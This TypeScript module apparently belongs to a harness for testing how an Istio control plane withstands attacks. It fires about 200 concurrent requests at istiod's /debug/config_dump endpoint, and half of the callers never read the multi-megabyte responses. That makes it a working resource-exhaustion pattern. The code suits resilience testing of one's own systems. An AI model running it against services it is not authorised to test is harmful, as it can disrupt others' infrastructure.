import { type ClientRequest, get } from "node:http";
import { setTimeout as wait } from "node:timers/promises";
import type { Attack } from "../../attack.js";
import { scaled } from "../scaled.js";
import { Outcomes } from "./stranger.js";

const holdMs = 10_000;

/** Requests dumps of a proxy's configuration, of several megabytes each. Every second caller does not read them. */
export const debugPages: Attack = {
  name: "debug-pages",
  description: "200 callers that may see a proxy request its configuration at the same time, and half do not read it",
  async run({ istiod, ports, places }, scale) {
    const count = scaled(200, scale);
    const outcomes = new Outcomes();
    const [place] = places;
    if (place === undefined) throw new Error("the target has no honest proxy");
    const url = new URL(`/debug/config_dump?proxyID=${place.name}.${place.namespace}`, istiod.http);
    const { localAddress } = ports.xds;
    const calls: ClientRequest[] = [];
    for (let at = 0; at < count; at++) {
      const call = get(url, { agent: false, ...(localAddress !== undefined && { localAddress }) });
      call.on("error", () => outcomes.add("closed"));
      call.on("response", (response) => {
        outcomes.add(`status ${response.statusCode}`);
        response.on("error", () => undefined);
        if (at % 2 === 0) response.resume();
      });
      calls.push(call);
    }
    await wait(holdMs);
    const ended = outcomes.toString();
    for (const call of calls) call.destroy();
    return `${count} requests: ${ended}`;
  },
};
